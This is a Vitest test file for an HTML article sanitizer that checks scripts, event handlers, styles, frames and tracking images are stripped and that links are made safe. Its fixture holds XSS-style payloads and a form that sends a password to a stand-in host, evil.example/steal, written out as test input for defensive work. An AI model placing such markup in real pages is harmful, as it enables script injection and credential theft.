import { describe, expect, it } from "vitest";
import { articleImageSources, sanitizeArticle } from "./article-html.server";

const base = "https://news.example/posts/one";
const kept = new Map([["https://news.example/img/kept.png", "/lead-images/0123456789abcdef0123456789abcdef"]]);
const clean = (html: string) => sanitizeArticle(html, { baseUrl: base, images: kept });

const HOSTILE = `
  <h1 onclick="alert(1)">Title</h1>
  <script>window.pwned = true</script>
  <style>body { display: none }</style>
  <p style="display:none" onmouseover="steal()">Hidden by the page's CSS</p>
  <img src="x" onerror="alert('img')">
  <img src="https://tracker.example/pixel.gif" alt="remote">
  <img src="/img/kept.png" alt="A kept picture" width="640" height="480" srcset="https://cdn.example/big.png 2x">
  <a href="javascript:alert(1)">a script link</a>
  <a href="JaVaScRiPt:alert(2)">another</a>
  <a href="/about" target="_self">relative</a>
  <iframe src="https://evil.example/frame"></iframe>
  <form action="https://evil.example/steal"><input name="password"><button>Send</button></form>
  <object data="https://evil.example/x.swf"></object>
  <svg><script>alert(3)</script></svg>
  <div class="share-buttons">Share this on everything</div>
  <p><a href="https://other.example/page" onclick="x()">an outside link</a></p>`;

describe("sanitizeArticle", () => {
  const out = clean(HOSTILE);

  it("leaves no script, handler, style, frame, form or embedded object", () => {
    expect(out).not.toMatch(/<script|<style|<iframe|<form|<input|<button|<object|<svg/i);
    expect(out).not.toMatch(/\son\w+=/i);
    expect(out).not.toMatch(/style=/i);
    expect(out).not.toMatch(/javascript:/i);
    expect(out).not.toContain("pwned");
    expect(out).not.toContain("display: none");
  });

  it("keeps the text a page's CSS hid, so nothing can be hidden from the reader", () => {
    expect(out).toContain("<p>Hidden by the page's CSS</p>");
  });

  it("shows only the pictures we hold a copy of, from our own path", () => {
    const sources = [...out.matchAll(/<img[^>]*src="([^"]*)"/g)].map((m) => m[1]);
    expect(sources).toEqual(["/lead-images/0123456789abcdef0123456789abcdef"]);
    expect(out).toContain('alt="A kept picture"');
    expect(out).not.toContain("srcset");
    expect(out).not.toContain("tracker.example");
  });

  it("opens every link on the original, absolute, in a new tab without an opener or referrer", () => {
    const links = [...out.matchAll(/<a ([^>]*)>/g)].map((m) => m[1]);
    expect(links).toEqual([
      'href="https://news.example/about" target="_blank" rel="noopener noreferrer"',
      'href="https://other.example/page" target="_blank" rel="noopener noreferrer"',
    ]);
    // A script link keeps its words and loses its address.
    expect(out).toContain("<a>a script link</a>");
  });

  it("drops what surrounds an article (share buttons) and demotes the article's h1 below the page's", () => {
    expect(out).not.toContain("Share this");
    expect(out).toContain("<h2>Title</h2>");
  });
});

describe("sanitizeArticle keeps the article's structure", () => {
  it("keeps lists with their numbers, quotes, figures, code's language and tables in a scrolling box", () => {
    const out = clean(`
      <ol start="3"><li>three</li><li value="7">seven</li></ol>
      <blockquote><p>quoted</p></blockquote>
      <figure><img data-src="https://news.example/img/kept.png" src="data:image/gif;base64,R0lGOD"><figcaption>Caption</figcaption></figure>
      <pre class="language-ts highlight"><code class="language-ts hljs" id="c1">const a = 1;</code></pre>
      <table style="width:2000px"><tr><th scope="col">A</th></tr><tr><td colspan="2">1</td></tr></table>`);
    expect(out).toContain('<ol start="3"><li>three</li><li value="7">seven</li></ol>');
    expect(out).toContain("<blockquote><p>quoted</p></blockquote>");
    expect(out).toMatch(/<figure><img src="\/lead-images\/0123456789abcdef0123456789abcdef"[^>]*\/?><figcaption>Caption<\/figcaption><\/figure>/);
    expect(out).toContain('<pre class="language-ts" tabindex="0"><code class="language-ts">const a = 1;</code></pre>');
    expect(out).toContain('<div class="reader-table" role="region" aria-label="Table 1" tabindex="0"><table><tr><th scope="col">A</th></tr><tr><td colspan="2">1</td></tr></table></div>');
  });

  it("leaves out a figure whose picture we do not hold", () => {
    expect(clean('<figure><img src="https://cdn.example/x.png"></figure><p>after</p>')).toBe("<p>after</p>");
  });
});

describe("articleImageSources", () => {
  it("lists the pictures' absolute addresses once, lazy ones by their real address, at most the limit", () => {
    const html = '<img src="/a.png"><img data-src="b.png" src="data:image/gif;base64,x"><img src="/a.png"><img src="javascript:x"><img src="/c.png">';
    expect(articleImageSources(html, base, 2)).toEqual(["https://news.example/a.png", "https://news.example/posts/b.png"]);
  });
});
